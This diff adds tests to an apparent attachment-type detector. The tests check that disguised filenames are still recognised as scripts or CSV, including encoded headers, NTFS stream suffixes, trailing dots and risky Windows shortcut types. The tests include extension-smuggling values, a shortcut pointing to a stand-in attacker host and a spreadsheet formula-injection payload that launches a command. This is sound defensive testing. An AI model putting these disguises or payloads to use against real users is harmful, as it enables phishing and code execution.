@@ -578,6 +578,40 @@ def test_text_named_as_a_script_is_a_script(declared: str) -> None:
     assert name_of(detect(b"<job><script>x</script></job>", None, declared)) == "script"
 
 
+@pytest.mark.parametrize(
+    ("declared", "kind"),
+    [
+        # the name browsers save under, however the header writes it (found by review)
+        ("attachment; filename=\"invoice.txt\"; filename*=UTF-8''invoice.js", "script"),
+        ("attachment; filename*=UTF-8''invoice%2Ejs", "script"),
+        ("attachment; filename=invoice%2Ejs", "script"),
+        ('attachment; filename="=?UTF-8?B?aW52b2ljZS5qcw==?="', "script"),
+        ('attachment; filename="Q3; invoice.js"', "script"),
+        ('attachment; filename="O\'Brien invoice.js"', "script"),
+        ('attachment; filename*0="invoice"; filename*1=".js"', "script"),
+        ("invoice.js::$DATA", "script"),
+        ("invoice.js.", "script"),
+        ("Q3; invoice.js", "script"),
+        ("search.searchConnector-ms", "script"),
+        ("prices.slk", "script"),
+        ("query.iqy", "script"),
+        ("attachment; filename=\"a.txt\"; filename*=UTF-8''report.csv", "csv"),
+    ],
+)
+def test_the_names_a_file_is_saved_under(declared: str, kind: str) -> None:
+    assert name_of(detect(b"text\n", None, declared)) == kind
+
+
+def test_a_name_decides_over_markup_for_scripts_and_csv() -> None:
+    """Windows opens invoice.url by its name, Excel report.csv: that the text also
+    reads as HTML does not matter to them."""
+    shortcut = b"<!DOCTYPE html>\n[InternetShortcut]\nURL=file://evil.example/x\n"
+    assert name_of(detect(shortcut, None, "invoice.url")) == "script"
+    sheet = b"<html>\n=cmd|' /C calc'!A0\n"
+    assert name_of(detect(sheet, None, "report.csv")) == "csv"
+    assert name_of(detect(sheet, None, "page.txt")) == "html"
+
+
 def test_scripts_a_page_loads_are_text() -> None:
     """Web pages load scripts by Content-Type: they stay text (delivered, as browsing
     needs), and only the bytes decide what a file named as a script is."""
